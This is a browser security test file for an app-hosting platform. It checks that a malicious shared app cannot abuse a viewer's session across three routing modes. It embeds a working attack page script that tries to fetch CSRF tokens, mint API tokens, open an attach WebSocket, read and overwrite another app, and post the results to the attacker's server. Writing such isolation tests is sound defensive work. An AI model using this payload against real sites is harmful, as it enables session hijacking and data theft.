/**
 * The isolation issue's attack, in a real browser (Debian's chromium). bob's app serves a
 * page whose script reads `/api/v1/me` for the CSRF token, POSTs `/api/v1/tokens` to mint a
 * token for its viewer, opens the viewer's attach WebSocket, reads another app the viewer
 * can reach (alice's notes, which even answers CORS with credentials) and posts into it,
 * then reports everything it got to bob's server. bob shares the app with alice; alice (and,
 * separately, an admin) log in and open it. Nothing may work: no token is created for the
 * victim, nothing of the victim's reaches bob, the notes app is neither read nor written.
 * Run on instance hosts with the defaults (main origin localhost, apps *.localhost: each app
 * host is its own site), on instance hosts that are the same site as the main origin (main
 * corral.localhost, apps *.corral.localhost, as with a real domain: cookies flow on
 * same-site requests), and under the unsafe path routing (CSP sandbox). All traffic goes
 * to 127.0.0.1 (chromium resolves *.localhost to loopback itself).
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser, logInWithForm } from '../helpers/browser.js';
import { ADMIN_PASSWORD, api, createUser, startTestServer, type TestServer } from '../helpers/server.js';
import { FixtureTargets, userId } from '../proxy/fixtures.js';

interface Seen {
  method: string;
  url: string;
  headers: http.IncomingHttpHeaders;
  body: string;
}

/** A loopback server standing in for an instance; keeps every request it gets. */
async function recordingServer(answer: (req: http.IncomingMessage, res: http.ServerResponse, body: string) => void) {
  const seen: Seen[] = [];
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (d: Buffer) => (body += d.toString()));
    req.on('end', () => {
      seen.push({ method: req.method!, url: req.url!, headers: req.headers, body });
      answer(req, res, body);
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { seen, port: (server.address() as AddressInfo).port, close: () => new Promise((r) => server.close(r)) };
}

/** bob's page: everything a malicious app would try with its viewer's credentials. */
const evilPage = (main: string, attachId: string, notes: string) => `<!doctype html><title>evil</title><script>
(async () => {
  const MAIN = ${JSON.stringify(main)}, NOTES = ${JSON.stringify(notes)};
  const out = {};
  const attempt = async (name, fn) => { try { out[name] = await fn(); } catch (e) { out[name] = 'error: ' + e.message; } };
  const text = async (r) => r.status + ' ' + (await r.text());
  let csrf = '';
  for (const base of ['', MAIN]) {
    await attempt('me ' + (base || 'relative'), async () => {
      const r = await fetch(base + '/api/v1/me', { credentials: 'include' });
      const t = await r.text();
      try { csrf = JSON.parse(t).csrfToken || csrf; } catch {}
      return r.status + ' ' + t;
    });
  }
  for (const base of ['', MAIN]) {
    await attempt('token ' + (base || 'relative'), async () => text(await fetch(base + '/api/v1/tokens', {
      method: 'POST', credentials: 'include',
      headers: { 'content-type': 'application/json', 'x-csrf-token': csrf },
      body: JSON.stringify({ name: 'stolen-' + (base ? 'main' : 'relative') }),
    })));
  }
  await attempt('simple post', async () => {
    await fetch(MAIN + '/api/v1/tokens', { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' }, body: '{"name":"stolen-simple"}' });
    return 'sent';
  });
  await attempt('attach', () => new Promise((resolve) => {
    const ws = new WebSocket(MAIN.replace(/^http/, 'ws') + '/api/v1/instances/${attachId}/attach');
    ws.onopen = () => resolve('open');
    ws.onerror = () => resolve('refused');
    setTimeout(() => resolve('timeout'), 5000);
  }));
  await attempt('notes read', async () => text(await fetch(NOTES, { credentials: 'include' })));
  await attempt('notes post', async () => {
    await fetch(NOTES + 'write', { method: 'POST', mode: 'no-cors', credentials: 'include', body: 'overwritten by bob' });
    return 'sent';
  });
  document.body.dataset.report = JSON.stringify(out);
  // To bob's own server (relative: next to this page); under a sandbox this may not arrive.
  await fetch('leak', { method: 'POST', body: JSON.stringify(out) }).catch(() => undefined);
  document.title = 'done';
})();
</script>`;

interface World {
  server: TestServer;
  main: string;
  evilUrl: string;
  notesUrl: string;
  bob: Awaited<ReturnType<typeof recordingServer>>;
  notes: Awaited<ReturnType<typeof recordingServer>>;
  aliceToken: string;
  close(): Promise<void>;
}

type Mode = 'default hosts' | 'same-site hosts' | 'path routing';

/** A port nobody listens on right now, for a config that must name it up front. */
async function freePort(): Promise<number> {
  const s = http.createServer();
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
  const { port } = s.address() as AddressInfo;
  await new Promise((r) => s.close(r));
  return port;
}

/** A corral where bob's app `evil` is shared with alice, and alice has her own `notes` app and a running instance. */
async function world(mode: Mode): Promise<World> {
  const pathRouting = mode === 'path routing';
  const sameSite = mode === 'same-site hosts';
  const fixed = sameSite ? await freePort() : 0;
  const server = await startTestServer({
    port: fixed,
    proxy: { pathRouting, ...(sameSite && { appsDomain: 'corral.localhost' }) },
    ...(sameSite && { publicUrl: `http://corral.localhost:${fixed}` }),
  });
  const port = new URL(server.url).port;
  const main = `http://${sameSite ? 'corral.localhost' : 'localhost'}:${port}`;
  const apps = sameSite ? 'corral.localhost' : 'localhost';
  const aliceToken = await createUser(server, 'alice');
  const bobToken = await createUser(server, 'bob');
  // Something of alice's to attach to.
  const created = await api(server, aliceToken, 'POST', '/api/v1/instances', { name: 'worker', command: [process.execPath, '-e', 'setInterval(() => {}, 1e9)'] });
  expect(created.status).toBe(201);
  const notesUrl = pathRouting ? `${main}/i/alice/notes/` : `http://notes--alice.${apps}:${port}/`;
  const evilUrl = pathRouting ? `${main}/i/bob/evil/` : `http://evil--bob.${apps}:${port}/`;
  const bob = await recordingServer((_req, res) => res.writeHead(200, { 'content-type': 'text/html' }).end(evilPage(main, created.body.id, notesUrl)));
  // The worst case for alice: her app answers CORS with credentials to anyone.
  const notes = await recordingServer((req, res) =>
    res
      .writeHead(200, {
        'content-type': 'text/html',
        'access-control-allow-origin': String(req.headers.origin ?? '*'),
        'access-control-allow-credentials': 'true',
      })
      .end('<title>notes</title>ALICE-SECRET'),
  );
  const targets = new FixtureTargets();
  targets.add({ owner: 'bob', ownerId: await userId(server, 'bob'), name: 'evil', ports: [{ name: 'http', port: bob.port }] });
  targets.add({ owner: 'alice', ownerId: await userId(server, 'alice'), name: 'notes', ports: [{ name: 'http', port: notes.port }] });
  server.app.proxy.useTargets(targets);
  expect((await api(server, bobToken, 'PUT', '/api/v1/proxy/bob/evil', { sharedWith: ['alice'] })).status).toBe(200);
  return {
    server,
    main,
    evilUrl,
    notesUrl,
    bob,
    notes,
    aliceToken,
    async close() {
      await server.stop();
      await bob.close();
      await notes.close();
    },
  };
}

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
}, 60_000);
afterAll(async () => {
  await browser?.close();
});

const tokenNames = async (server: TestServer, token: string) =>
  ((await api(server, token, 'GET', '/api/v1/tokens')).body.tokens as { name: string }[]).map((t) => t.name).sort();

/** Logs `name` in, opens alice's notes (so a cookie for it exists where it can), then bob's page; returns what bob's script reported. */
async function victimOpens(w: World, name: string, password: string): Promise<Record<string, string>> {
  const { context, page } = await logInWithForm(browser, w.main, name, password);
  if (name === 'alice') {
    await page.goto(w.notesUrl);
    expect(await page.content()).toContain('ALICE-SECRET');
  }
  const res = await page.goto(w.evilUrl);
  expect(res?.status()).toBe(200);
  await page.waitForFunction(() => document.title === 'done', undefined, { timeout: 30_000 });
  const report = JSON.parse((await page.evaluate(() => document.body.dataset.report))!) as Record<string, string>;
  await context.close();
  return report;
}

/** Everything the attack could have gained, checked from the outside. */
async function expectNothingGained(w: World, report: Record<string, string>, victimToken: string, before: string[]) {
  expect(await tokenNames(w.server, victimToken)).toEqual(before);
  // Relative URLs reach bob's own app on an instance host (it answers with its page): harmless.
  for (const [what, result] of Object.entries(report)) {
    if (what.startsWith('me ')) expect(result, what).not.toMatch(/"csrfToken":"|"role":"/);
    if (what.startsWith('token ')) expect(result, what).not.toMatch(/^201|"token"/);
  }
  expect(report.attach).not.toBe('open');
  expect(report['notes read']).not.toContain('ALICE-SECRET');
  const everything = JSON.stringify(w.bob.seen);
  expect(everything).not.toMatch(/\\?"csrfToken\\?":/);
  expect(everything).not.toContain('corral_session');
  expect(everything).not.toContain('corral_host');
  expect(w.notes.seen.filter((s) => s.method === 'POST')).toEqual([]);
}

for (const mode of ['default hosts', 'same-site hosts', 'path routing'] as const) {
  describe(mode, () => {
    let w: World;
    beforeAll(async () => {
      w = await world(mode);
    }, 60_000);
    afterAll(() => w?.close());

    it("bob's shared app gains nothing from alice viewing it", async () => {
      const before = await tokenNames(w.server, w.aliceToken);
      const report = await victimOpens(w, 'alice', 'alice-password');
      await expectNothingGained(w, report, w.aliceToken, before);
      // The page did run, and alice's own app stays hers.
      expect(Object.keys(report)).toContain('attach');
      expect(w.notes.seen.some((s) => s.method === 'GET')).toBe(true);
    }, 90_000);

    it('nor from an admin viewing it', async () => {
      w.bob.seen.length = 0;
      const before = await tokenNames(w.server, w.server.adminToken);
      const report = await victimOpens(w, 'admin', ADMIN_PASSWORD);
      await expectNothingGained(w, report, w.server.adminToken, before);
    }, 90_000);
  });
}
